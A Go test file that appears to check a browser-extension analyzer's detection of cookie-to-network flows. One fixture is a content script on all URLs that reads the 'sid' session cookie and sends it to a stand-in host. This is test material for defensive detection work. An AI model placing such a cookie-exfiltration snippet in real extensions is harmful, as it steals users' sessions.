package analysis

import "testing"

// The function by which axios reads one cookie of a page gives no session away.
func TestCookieOfAxios(t *testing.T) {
	const rest = `{write(n, v) { document.cookie = n + "=" + v }, read(n) { const a = document.cookie.split(";"); for (let i = 0; i < a.length; i++) { const e = a[i].indexOf("="); if (a[i].slice(0, e) === n) return a[i].slice(e + 1) } return null }, remove(n) { this.write(n, "") }}`
	for code, want := range map[string]bool{
		`const defaults = {xsrfCookieName: "XSRF-TOKEN"}, jar = ` + rest + `; fetch("https://api.example/", {headers: {"X-XSRF-TOKEN": jar.read(defaults.xsrfCookieName)}})`: false,
		`const jar = ` + rest + `; fetch("https://api.example/", {headers: {"X-Session": jar.read("sid")}})`:                                                                 true,
	} {
		r := analyzed(t, map[string]string{
			"manifest.json": `{"manifest_version": 3, "name": "x", "version": "1", "content_scripts": [{"matches": ["<all_urls>"], "js": ["c.js"]}]}`,
			"c.js":          code,
		})
		if got := hasFlow(r, "document.cookie", "fetch", "api.example"); got != want {
			t.Errorf("%s: %v", code, got)
		}
	}
}
